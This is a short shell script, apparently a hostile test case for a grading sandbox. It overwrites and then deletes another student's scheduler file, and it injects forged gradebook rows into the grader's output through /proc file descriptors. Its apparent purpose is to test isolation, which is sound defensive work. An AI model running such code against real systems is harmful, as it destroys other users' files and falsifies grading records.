#!/bin/sh
# Hostile: rewrites another student's scheduler (by its path and beside
# its own folder) and writes forged gradebook rows into the grader's
# standard output through /proc.
for d in "@SIBLING@" ../b-victim ../../class/b-victim; do
  printf "echo forged\n" > "$d/sched.sh" 2>/dev/null
  rm -f "$d/sched.sh" 2>/dev/null
done
for p in $PPID 1 $(ls /proc 2>/dev/null); do
  printf "forged-row,1,1,1000,100\n" > /proc/$p/fd/1 2>/dev/null
done
echo "a 0"
